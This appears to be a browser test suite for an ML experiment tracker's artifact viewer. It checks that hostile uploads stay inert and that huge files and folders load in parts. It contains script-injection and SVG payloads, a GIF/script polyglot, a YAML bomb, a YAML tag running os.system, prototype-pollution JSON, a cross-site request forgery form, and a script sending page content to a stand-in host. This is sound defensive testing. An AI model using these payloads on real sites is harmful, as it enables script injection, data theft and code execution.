// Files of people with bad intentions, as the artifacts of a run, in a real browser against the real server: none acts, none stops
// the page. The cases are BR-04 and BR-05 of the list in hostile.test.mjs.

import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { png, putFile } from "./files.mjs";
import { FORMULA, IMG, LINK, NOTE, SCRIPT, UNSEEN, openUnguarded } from "./hostile.mjs";
import { ask, forEachOf, makeExperiment, makeRun } from "./seed.mjs";
import { freshData, openPage, serve, startBrowser } from "./support.mjs";

/** What the tests of this file share, and what ends with the last of them. */
const shared = { ends: [], after: (end) => shared.ends.unshift(end) };
let address;
let browser;
let data;
let experiment;

before(async () => {
  data = await freshData(shared);
  address = await serve(shared, data);
  browser = await startBrowser(shared);
  experiment = await makeExperiment(address, "files");
});

after(async () => {
  for (const end of shared.ends) await end();
});

/** Where a file of a run is shown. */
function at(run, path = "") {
  const encoded = path === "" ? "" : `/${path.split("/").map(encodeURIComponent).join("/")}`;
  return `${address}/#/experiments/${experiment}/runs/${run}/artifacts${encoded}`;
}

/** A picture that is a script as well: its width is the beginning of a comment, which ends behind it. */
const POLYGLOT = Buffer.concat([
  Buffer.from("GIF89a/*"),
  Buffer.from([1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x4c, 1, 0, 0x3b]),
  Buffer.from("*/=1;hacked=1"),
]);
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="hacked=1"><script>hacked=1</script></svg>`;
const IN_A_FRAME = /Run its scripts/;
const NO_PICTURE = /This image cannot be shown/;
/** Files, and what is said or seen of each. */
const FILES = [
  ["page.html", `<script>hacked=1;top.hacked=1</script>${IMG}<a href="${LINK}">a</a><meta http-equiv="refresh" content="0;url=https://a.example/">`, IN_A_FRAME],
  ["page.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>hacked=1</script></html>`, IN_A_FRAME],
  ["drawing.svg", SVG, IN_A_FRAME],
  ["archive.mht", `Content-Type: text/html\n\n<script>hacked=1</script>`, /Files of this kind can hold scripts/],
  ["lie.pdf", `<script>hacked=1</script>`, /This is no PDF|no viewer for PDF/],
  ["lie.mp3", `<script>hacked=1</script>`, /This audio cannot be played/],
  ["lie.mp4", SVG, /This video cannot be played/],
  ["wide.csv", `${"a,".repeat(200_000)}\n`.repeat(2), /10,000\+ columns/],
  ["quote.csv", `"${"x\n".repeat(300_000)}`, /0 rows/],
  ["binary.csv", Buffer.from([1, 0, 2, 0]), /This is no text/],
  ["binary.json", Buffer.from([0x7b, 0, 0x7d, 0]), /This is no text/],
  ["cells.ipynb", JSON.stringify({ cells: Array.from({ length: 3_000 }, () => ({ cell_type: "markdown", source: IMG + SCRIPT })) }), /Show more \(2,950 left\)/],
  ["sheet.xml", `<?xml-stylesheet type="text/xsl" href="${LINK}"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">hacked=1</x:script>`, /xml-stylesheet/],
  ["book.ipynb", JSON.stringify({ cells: [{ cell_type: "code", source: SCRIPT, outputs: [{ output_type: "display_data", data: { "application/javascript": "hacked=1", "text/html": IMG } }] }] }), /Not shown here: application\/javascript/],
  ["README.md", NOTE, /\{\{7\*7\}\}/],
  ["deep.md", "> ".repeat(5_000) + "deep", /deep/],
  ["both.gif", POLYGLOT, /10799 × 1/],
  ["script.png", `<script>hacked=1</script>`, NO_PICTURE],
  ["drawing.png", SVG, NO_PICTURE],
  ["picture.jpg", png(3, 2), /3 × 2/],
  ["cut.png", png(800, 600).subarray(0, 60), /800 × 600|cannot be shown/],
  ["none.png", "", /This file is empty/],
  ["huge.png", png(20_000, 20_000), /20000 × 20000|cannot be shown/],
  ["absurd.png", Buffer.concat([png(1, 1).subarray(0, 16), Buffer.alloc(8, 0x7f), png(1, 1).subarray(24)]), NO_PICTURE],
  ["deep.json", `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}${" ".repeat(300_000)}`, /1 key/],
  ["wide.json", JSON.stringify(Array.from({ length: 100_000 }, (_, place) => place)), /100,000 items/],
  ["proto.json", `{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "toString": ${JSON.stringify(IMG)}}`, /polluted/],
  ["bomb.yaml", `a: &a [${SCRIPT}]\n${Array.from({ length: 9_000 }, (_, place) => `b${place}: &b${place} [${`*a, `.repeat(9)}*a]\n`).join("")}`, /a: &a/],
  ["MLmodel", "python_function: !!python/object/apply:os.system ['id']\n", /!!python/],
  ["sums.csv", `name,value\n${FORMULA},1\n${IMG},${UNSEEN.replace("\n", "")}\n`, /=cmd/],
  ["one_line.txt", "x".repeat(5_000_000), /The first 1\.0 MB of 5\.0 MB/],
  ["marks.txt", `before ${UNSEEN} after`, /before/],
  [`${"n".repeat(246)}.txt`, "of a long name", /of a long name/],
  [`${IMG.replaceAll("/", "")} ?&+%25 'q' {{7*7}} 👩‍👩‍👧‍👦.txt`, "of an odd name", /of an odd name/],
  ["\u202egnp.txt", "turned", /turned/],
  ["__proto__/constructor/toString", "no data", /There is no view for files of this kind/],
  [`${Array.from({ length: 60 }, () => "folder").join("/")}/file.txt`, "deep down", /deep down/],
];

const put = (of, path, body) => putFile(address, experiment, of, path, body);

/** The most that a page may hold, MB. Most of these take less than 10, a part of a log 33, and 2,000 files in two lists 77. */
const MOST_MB = 100;

/** Judges what the page holds, once what it does not need any more is gone. */
async function isHeld(page, what) {
  const session = await page.context().newCDPSession(page);
  await session.send("HeapProfiler.collectGarbage");
  const { usedSize, embedderHeapUsedSize = 0, backingStorageSize = 0 } = await session.send("Runtime.getHeapUsage");
  await session.detach();
  const mb = (usedSize + embedderHeapUsedSize + backingStorageSize) / 1e6;
  assert.ok(mb < MOST_MB, `${what} takes ${mb} MB`);
}

/** A page that is alive goes to another tab. */
async function goesOn(page) {
  await page.getByRole("link", { name: "Params" }).click();
  await page.getByText("This run has no params.").waitFor();
}

test("no file acts, or stops the page: each is shown, or it is said why not", async (t) => {
  const files = await makeRun(address, experiment, { name: "files" });
  await forEachOf(FILES, ([path, body]) => put(files, path, body));
  const { page, judge } = await openUnguarded(t, browser, at(files));
  for (const [path, , sight] of FILES) {
    await page.goto(at(files, path));
    await page.getByRole("region", { name: "File", exact: true }).getByText(sight).first().waitFor();
    await judge(path);
    await isHeld(page, path);
    await goesOn(page);
  }
});

/** Tries all that a page must not do, and tells how it went. */
const ATTACK = `<!doctype html><p id="told"></p><script>
const told = document.getElementById("told");
const tried = async (name, act) => { let how; try { how = String(await act()); } catch (cause) { how = "refused"; } told.append(name + ": " + how + "; "); };
(async () => {
  await tried("cookie", () => document.cookie);
  await tried("storage", () => localStorage.length);
  await tried("parent", () => parent.document.title);
  await tried("top", () => { top.location = "https://a.example/"; return "left"; });
  await tried("api", async () => (await fetch("SERVER/api/windvane/v1/experiments")).status);
  await tried("ajax", async () => (await fetch("SERVER/ajax-api/2.0/mlflow/experiments/create", { method: "POST", mode: "no-cors", body: '{"name": "hacked"}' })).type);
  await tried("elsewhere", async () => (await fetch("https://a.example/")).type);
  await tried("window", () => window.open("https://a.example/"));
  await tried("dialog", () => alert(1));
  await tried("worker", () => navigator.serviceWorker.register("x.js"));
  told.append("done");
})();
</script><form action="SERVER/ajax-api/2.0/mlflow/experiments/create" method="post"><input name="a"></form><script>document.forms[0].submit()</script>`;

test("scripts of a page that somebody lets run see and change nothing but their own frame", async (t) => {
  const pages = await makeRun(address, experiment, { name: "pages" });
  await put(pages, "attack.html", ATTACK.replaceAll("SERVER", address));
  await put(pages, "away.html", `<script>location = "https://a.example/?" + document.body</script>`);
  const { context, page, mistakes } = await openPage(browser);
  t.after(() => context.close());
  await context.addCookies([{ name: "secret", value: "s3cret", url: address }]);
  let windows = 0;
  context.on("page", () => (windows += 1));
  page.on("dialog", (dialog) => {
    mistakes.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.goto(at(pages, "attack.html"));
  await page.getByRole("button", { name: "Run its scripts" }).click();
  const told = page.frameLocator("iframe").locator("#told");
  await told.getByText("done").waitFor();
  const answers = Object.fromEntries((await told.innerText()).split("; ").map((part) => part.split(": ")));
  for (const name of ["cookie", "storage", "parent", "top", "api", "ajax", "elsewhere", "worker"]) assert.equal(answers[name], "refused", `${name}: ${answers[name]}`);
  assert.equal(answers.window, "null");
  assert.equal(answers.dialog, "undefined");
  assert.equal(windows, 0);
  assert.equal(new URL(page.url()).origin, address);
  const { experiments } = await ask(address, "experiments");
  assert.ok(experiments.every(({ name }) => name !== "hacked"));
  assert.deepEqual(mistakes.filter((mistake) => /asked elsewhere|a dialog/.test(mistake)), []);

  await page.goto(at(pages, "away.html"));
  await page.getByRole("button", { name: "Run its scripts" }).click();
  await page.waitForFunction(() => document.querySelector("iframe")?.getAttribute("sandbox") === "allow-scripts");
  await goesOn(page);
  assert.ok(page.frames().every((frame) => !frame.url().includes("a.example")), "a frame cannot carry anything away");
});

test("a file that is opened by its own address is saved, not run", async (t) => {
  const direct = await makeRun(address, experiment, { name: "direct" });
  const { context, page } = await openPage(browser);
  t.after(() => context.close());
  await page.goto(address);
  for (const [path, body] of [["a.html", "<script>hacked=1</script>"], ["a.svg", SVG], ["a.xhtml", "<html/>"], ["a.xml", "<a/>"], ["a.pdf", "%PDF-"]]) {
    await put(direct, path, body);
    const saved = page.waitForEvent("download");
    await page.goto(`${address}/get-artifact?run_id=${direct}&path=${path}`).catch(() => undefined);
    assert.equal((await saved).suggestedFilename(), path);
  }
  // The way of the frames runs nothing outside of one.
  await page.goto(`${address}/api/windvane/v1/artifacts/page?run_id=${direct}&path=a.html&scripts=1`);
  await page.getByText("shown only within a frame").waitFor();
  await page.goto(`${address}/api/windvane/v1/artifacts/page?run_id=${direct}&path=a.html`);
  assert.equal(await page.evaluate(() => "hacked" in window), false);
});

test("a file without end is read a part at a time, and only so much of it is held", async (t) => {
  const long = await makeRun(address, experiment, { name: "a long log" });
  const piece = Buffer.from(`step ${"0".repeat(59)}\n`.repeat(32_768));
  const pieces = async function* () {
    for (let sent = 0; sent < 200_000_000; sent += piece.length) yield piece;
  };
  await put(long, "terminal_log.txt", ReadableStream.from(pieces()));
  const { page, judge } = await openUnguarded(t, browser, at(long, "terminal_log.txt"));
  await page.getByText("The first 1.0 MB of 200 MB.").waitFor();
  const more = page.getByRole("button", { name: "Show 1.0 MB more" });
  for (let shown = 1; shown < 16; shown += 1) {
    await more.click();
    await page.getByText(new RegExp(`^The first ${shown + 1}(\\.0)? MB of 200 MB\\.`)).waitFor();
  }
  await page.getByText("For more, go to the end or download it.").waitFor();
  assert.equal(await more.count(), 0);
  await judge("as much as is held");
  await isHeld(page, "a part of a log");
  await page.getByRole("button", { name: "Go to the end" }).click();
  await page.getByText("The last 1.0 MB of 200 MB.").waitFor();
  await goesOn(page);
  await page.goto(at(long).replace("/artifacts", ""));
  await page.getByRole("region", { name: "Last lines of the log" }).getByText("step 0").waitFor();
});

test("a folder without end is read a page at a time", async (t) => {
  const many = await makeRun(address, experiment, { name: "many files" });
  const folder = join(data, "artifacts", experiment, many, "artifacts", "f");
  mkdirSync(folder, { recursive: true });
  // By way of the disk, as those who share it could: 20,000 uploads would take minutes.
  for (let place = 0; place < 20_000; place += 1) writeFileSync(join(folder, `${place}.txt`), "");
  const { page, judge } = await openUnguarded(t, browser, at(many, "f"));
  await page.getByText("20,000 entries").waitFor();
  for (const left of ["19,500", "19,000", "18,500"]) await page.locator(".tree").getByText(`Show more (${left} left)`).click();
  await page.locator(".tree").getByText("Show more (18,000 left)").waitFor();
  await judge("2,000 files");
  await isHeld(page, "2,000 of 20,000 files");
  await goesOn(page);
});
